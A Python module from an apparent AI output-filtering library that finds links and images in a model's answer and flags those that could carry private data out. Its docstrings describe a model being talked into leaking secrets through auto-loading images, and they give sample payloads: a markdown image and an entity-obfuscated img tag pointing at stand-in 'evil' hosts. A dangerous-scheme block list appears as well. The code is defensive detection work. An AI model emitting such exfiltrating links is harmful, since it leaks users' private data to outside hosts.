"""Links and images in an answer, and which of them could carry data out.

A model that read something private can be talked into writing it into a URL:
an image the chat front end fetches on its own (``![x](https://evil/?d=...)``),
or a link the user is tempted to click. ``find_links`` lists every URL in
markdown (inline, reference-style, autolinks), HTML (``<img>``, ``<a>``,
``<iframe>``, CSS ``url()``...) and bare text. ``find_exfiltration`` flags:

- any URL with a dangerous scheme (``data:``, ``javascript:``, ``file:``...),
- any auto-loading URL (image, iframe, script, CSS) off the allow-list,
- any URL off the allow-list that carries data: a secret or personal data,
  credentials, a long or many-word query value, an encoded blob in a query,
  path segment or host label.

Text is also scanned after HTML-entity and percent decoding, with invisible
characters removed and Unicode folded (NFKC), so an encoded payload is caught.
Hosts are compared after lower-casing, percent- and IDNA-decoding, with a
trailing dot dropped and a backslash read as a slash, as browsers do.

The contract checks ``urls`` and ``exfiltration`` call these functions, so the
shield and a contract agree on what a link is and which ones carry data out.
"""

from __future__ import annotations

import base64
import html
import re
import unicodedata
from dataclasses import dataclass
from typing import Any
from urllib.parse import parse_qsl, unquote, urlsplit

from unwalled.shield.pii import find_pii
from unwalled.shield.secrets import find_secrets

__all__ = ["Link", "ExfiltrationFinding", "find_links", "find_exfiltration",
           "normalize_text", "scheme_of", "host_of", "host_allowed", "normalise_domains"]

DANGEROUS_SCHEMES = {"data", "javascript", "vbscript", "file", "blob"}
_INVISIBLE = re.compile("[\u00ad\u034f\u061c\u115f\u1160\u17b4\u17b5\u180b-\u180f"
                        "\u200b-\u200f\u202a-\u202e\u2060-\u206f\u3164\ufe00-\ufe0f"
                        "\ufeff\uffa0\U000e0000-\U000e0fff]")

_ALT = r"\[(?:[^\[\]\n]|\[[^\[\]\n]*\])*\]"
_TARGET = r"\(\s*<?([^)\s>]+)>?(?:\s+[\"'(][^)]*)?\s*\)"
_MD_IMAGE = re.compile("!" + _ALT + _TARGET)
_MD_LINK = re.compile("(?<!!)" + _ALT + _TARGET)
_MD_REF_DEF = re.compile(r"^[ \t]{0,3}\[([^\]\n]+)\]:[ \t]*<?(\S+?)>?(?:[ \t].*)?$",
                         re.MULTILINE)
_MD_REF_IMAGE = re.compile(r"!\[([^\]\n]*)\](?:\[([^\]\n]*)\])?")
_HTML_LOADING = re.compile(
    r"<(?:img|image|iframe|frame|script|source|video|audio|embed|object|link|input"
    r"|track|body|table|td|svg|use)\b[^>]*?\b(?:src|href|xlink:href|data|poster"
    r"|srcset|background|action)\s*=\s*([\"']?)([^\"'\s>]+)", re.IGNORECASE)
_HTML_LINK = re.compile(r"<(?:a|area|form)\b[^>]*?\b(?:href|action)\s*=\s*([\"']?)"
                        r"([^\"'\s>]+)", re.IGNORECASE)
_HTML_REFRESH = re.compile(r"<meta\b[^>]*?url\s*=\s*([^\"'\s>;]+)", re.IGNORECASE)
_CSS_URL = re.compile(r"url\(\s*[\"']?([^\"')\s]+)", re.IGNORECASE)
_AUTOLINK = re.compile(r"<((?:https?|ftp)://[^>\s]+)>", re.IGNORECASE)
def _bare_urls() -> Any:
    """Bare URLs, on RE2: linear time, and five times faster here than ``re``,
    which cannot skip ahead on a case-insensitive alternation. Each match is
    then tested by ``_stands_alone`` (RE2 has no look-behind)."""
    import re2

    options = re2.Options()
    options.log_errors = False
    options.case_sensitive = False
    return re2.compile(r"(?:https?://|ftp://|//|www\.)[^\s<>\"'`)\]]+", options)


_BARE_URL = _bare_urls()
_HOST_THEN_PATH = re.compile(r"[\w-]+\.[\w.-]+/")
_DATA_URL = re.compile(r"\b(?:data|javascript|vbscript):[^\s)\"'>]{4,}", re.IGNORECASE)
_BLOB = re.compile(r"[A-Za-z0-9+/_-]{12,}={0,2}")
_HEX = re.compile(r"[0-9a-fA-F]+")


@dataclass(frozen=True, slots=True)
class Link:
    url: str
    form: str
    """markdown-image, markdown-link, reference-image, html-loading, html-link,
    css, autolink, bare, data-url."""
    loads: bool
    """True when a viewer fetches it without a click (images, iframes, CSS)."""


@dataclass(frozen=True, slots=True)
class ExfiltrationFinding:
    url: str
    form: str
    reason: str


def normalize_text(text: str) -> str:
    """NFKC-folded text without invisible characters: zero-width, bidi, tags and
    every other format character (category Cf, such as the musical beam marks
    U+1D173..U+1D17A), and the fillers and selectors that render as nothing."""
    if text.isascii():
        return text  # NFKC leaves ASCII as it is, and it has no invisible characters
    folded = _INVISIBLE.sub("", unicodedata.normalize("NFKC", text))
    if folded.isascii():
        return folded
    return "".join(c for c in folded if c.isascii() or unicodedata.category(c) != "Cf")


def _decoded_views(text: str) -> list[str]:
    """The text as written, then HTML-unescaped, then percent-decoded, then
    with the tabs and line breaks a browser drops from a URL dropped."""
    views = [normalize_text(text)]
    unescaped = html.unescape(views[0])
    if unescaped != views[0]:
        views.append(unescaped)
    decoded = unquote(unescaped)
    if decoded != unescaped:
        views.append(normalize_text(decoded))
    if "\t" in unescaped or "\n" in unescaped or "\r" in unescaped:
        cleaned = _as_browsers_read(unescaped)
        if cleaned != unescaped:
            views.append(cleaned)
    return views


_QUOTED_VALUE = re.compile(r"(=[ \t\n\r]*[\"'])([^\"']{0,4000})([\"'])")
_ANGLE_TARGET = re.compile(r"(\]\(\s*<)([^<>]{0,4000})(>)")
_URL_WHITESPACE = re.compile(r"[\t\n\r]")


def _as_browsers_read(text: str) -> str:
    """Quoted HTML attribute values and ``](<...>)`` targets without tabs and
    line breaks: a browser removes them from a URL before it loads it, so
    ``src="ht&#9;tps://evil.example/p.png"`` still fetches from evil.example."""
    def cleaned(match: re.Match[str]) -> str:
        opening, value, closing = match.group(1, 2, 3)
        return opening + _URL_WHITESPACE.sub("", value) + closing

    return _ANGLE_TARGET.sub(cleaned, _QUOTED_VALUE.sub(cleaned, text))


def find_links(text: str) -> list[Link]:
    """Every URL in markdown, HTML and bare text, each once: in the first form it
    was seen in, marked as loading by itself if any of its forms does."""
    links: dict[str, Link] = {}

    def add(url: str, form: str, loads: bool) -> None:
        url = url.strip().strip("<>")
        if not url:
            return
        seen = links.get(url)
        if seen is None or (loads and not seen.loads):
            links[url] = Link(url, form, loads)

    for view in _decoded_views(text):
        _collect(view, add)
    return list(links.values())


def _collect(text: str, add) -> None:  # noqa: ANN001 - a local callback
    # Each pattern runs only when the text holds what it cannot match without
    # (a substring test costs far less than a regex scan, and most answers
    # have no markdown, no HTML or no URL at all).
    lowered = text.lower()
    if "](" in text:
        for match in _MD_IMAGE.finditer(text):
            add(match.group(1), "markdown-image", True)
        for match in _MD_LINK.finditer(text):
            add(match.group(1), "markdown-link", False)
    if "]:" in text:
        _references(text, add)
    if "<" in text:
        for pattern, form, loads in ((_HTML_LOADING, "html-loading", True),
                                     (_HTML_LINK, "html-link", False),
                                     (_HTML_REFRESH, "html-loading", True)):
            for match in pattern.finditer(text):
                add(match.group(match.lastindex or 0), form, loads)
        for match in _AUTOLINK.finditer(text):
            add(match.group(1), "autolink", False)
    if "url(" in lowered:
        for match in _CSS_URL.finditer(text):
            add(match.group(1), "css", True)
    for match in _BARE_URL.finditer(text):
        if _stands_alone(text, match):
            add(match.group().rstrip(".,;:!?"), "bare", False)
    if "data:" in lowered or "script:" in lowered:
        for match in _DATA_URL.finditer(text):
            add(match.group(), "data-url", False)


def _references(text: str, add) -> None:  # noqa: ANN001 - a local callback
    """Reference-style definitions, as images when an image uses their label."""
    definitions = {label.strip().lower(): url
                   for label, url in _MD_REF_DEF.findall(text)}
    image_labels = {(ref or alt).strip().lower()
                    for alt, ref in _MD_REF_IMAGE.findall(text)}
    for label, url in definitions.items():
        loads = label in image_labels
        add(url, "reference-image" if loads else "reference-link", loads)


def _stands_alone(text: str, match: re.Match[str]) -> bool:
    """Whether a bare URL match is one: not glued to a word, and not inside a
    markdown or HTML target (those are that target's) or another URL."""
    before = text[match.start() - 1] if match.start() else " "
    found = match.group()
    if before.isalnum() or before in "_(=<":
        return False
    if found.startswith("//"):
        return before not in ":/" and bool(_HOST_THEN_PATH.match(text, match.start() + 2))
    if found[:4].lower() == "www.":
        return before not in "/.:@-"
    return True


def find_exfiltration(text: str, allow_domains: tuple[str, ...] | list[str] = (),
                      links: str = "with_data") -> list[ExfiltrationFinding]:
    """The links in ``text`` that could carry data out, with the reason for each.

    ``links`` says which plain links (those that need a click) off the
    allow-list count: ``with_data`` those that carry data, ``all`` every one,
    ``none`` none (images, frames and dangerous schemes always count)."""
    allowed = frozenset(normalise_domains(list(allow_domains)))
    findings = []
    for link in find_links(text):
        reason = _verdict(link, allowed, links)
        if reason:
            findings.append(ExfiltrationFinding(link.url, link.form, reason))
    return findings


def _verdict(link: Link, allowed: frozenset[str], links: str) -> str | None:
    url = link.url
    scheme = scheme_of(url)
    if scheme in DANGEROUS_SCHEMES:
        return f"{scheme}: URL"
    if url.startswith("//"):
        url = "https:" + url
    elif url.lower().startswith("www."):
        url = "https://" + url
    if not re.match(r"(?i)(?:https?|ftp)://", url):
        return None  # a relative link stays on the page that shows the answer
    try:
        parts = urlsplit(url.replace("\\", "/"))
    except ValueError:
        return "unparseable URL"
    host = host_of(url)
    if host_allowed(host, allowed):
        return None
    if link.loads:
        return "loads without a click from a host not on the allow-list"
    if links == "all":
        return "a link to a host not on the allow-list"
    return _carries_data(parts) if links == "with_data" else None


def scheme_of(url: str) -> str:
    """The URL's scheme, lower-cased; ``https`` for ``//host`` and ``www.``."""
    url = url.strip()
    if url.startswith("//") or url.lower().startswith("www."):
        return "https"
    head = url.split(":", 1)
    return head[0].lower() if len(head) == 2 and re.fullmatch(
        r"[a-zA-Z][a-zA-Z0-9+.-]*", head[0]) else ""


def host_of(url: str) -> str:
    """The host as a browser would reach it: lower case, percent- and IDNA-decoded,
    no trailing dot, a backslash read as a slash; empty when there is none."""
    url = url.strip().replace("\\", "/")
    if url.lower().startswith("www."):
        url = "https://" + url
    elif url.startswith("//"):
        url = "https:" + url
    try:
        host = urlsplit(url).hostname or ""
    except ValueError:
        return ""
    host = unquote(host).rstrip(".").lower()
    try:
        return host.encode("ascii").decode("idna") if "xn--" in host else host
    except UnicodeError:
        return host


def host_allowed(host: str, allowed: frozenset[str]) -> bool:
    """Whether ``host`` is an allowed domain or a subdomain of one."""
    if not host:
        return False
    parts = host.split(".")
    return any(".".join(parts[i:]) in allowed for i in range(len(parts)))


def normalise_domains(domains: list[str]) -> list[str]:
    """Allow-list entries as hosts: lower case, no ``*.``, no leading or trailing dot."""
    return [d.strip().lower().rstrip(".").removeprefix("*.").lstrip(".")
            for d in domains]


def _carries_data(parts) -> str | None:  # noqa: ANN001 - SplitResult
    if parts.username or parts.password:
        return "credentials in the URL"
    written = parts.netloc.rsplit("@", 1)[-1].split(":")[0]  # base64 needs the case
    for label in written.split("."):
        if len(label) >= 40 or (len(label) >= 12 and _decodes_to_text(label)):
            return "encoded data in the host name"
    whole = unquote(f"{parts.path}?{parts.query}#{parts.fragment}")
    if find_secrets(whole) or [f for f in find_pii(whole) if f.kind != "PHONE"]:
        return "a secret or personal data in the URL"
    values = [value for _, value in parse_qsl(parts.query, keep_blank_values=True)]
    values += [parts.fragment] if "=" not in parts.fragment else [
        value for _, value in parse_qsl(parts.fragment)]
    for value in values:
        reason = _data_value(value)
        if reason:
            return f"{reason} in the query"
    for segment in parts.path.split("/"):
        if _is_blob(unquote(segment), path=True):
            return "an encoded blob in the path"
    return None


def _data_value(value: str) -> str | None:
    if len(value) > 48:
        return "a long value"
    if len(value.split()) >= 5:
        return "a sentence"
    if _is_blob(value, path=False):
        return "an encoded blob"
    return None


def _is_blob(value: str, *, path: bool) -> bool:
    """Words, or a run that decodes to text, or a run too long to be an id."""
    if len(value.split()) >= 4:
        return True
    for run in _BLOB.findall(value):
        if len(run) > (64 if path else 48) or _decodes_to_text(run):
            return True
    return False


def _decodes_to_text(run: str) -> bool:
    """Whether hex, base64 or base32 of ``run`` is readable text (ids are not)."""
    candidates = []
    if _HEX.fullmatch(run) and len(run) % 2 == 0:
        candidates.append(lambda: bytes.fromhex(run))
    padded = run + "=" * (-len(run) % 4)
    candidates.append(lambda: base64.b64decode(padded.replace("-", "+")
                                                .replace("_", "/"), validate=True))
    if re.fullmatch(r"[A-Za-z2-7]+=*", run):
        candidates.append(lambda: base64.b32decode(
            run.upper() + "=" * (-len(run) % 8)))
    for decode in candidates:
        try:
            raw = decode()
        except ValueError:
            continue
        if len(raw) >= 8 and _printable_share(raw) >= 0.9:
            return True
    return False


def _printable_share(raw: bytes) -> float:
    printable = sum(32 <= b < 127 or b in (9, 10, 13) for b in raw)
    return printable / len(raw)
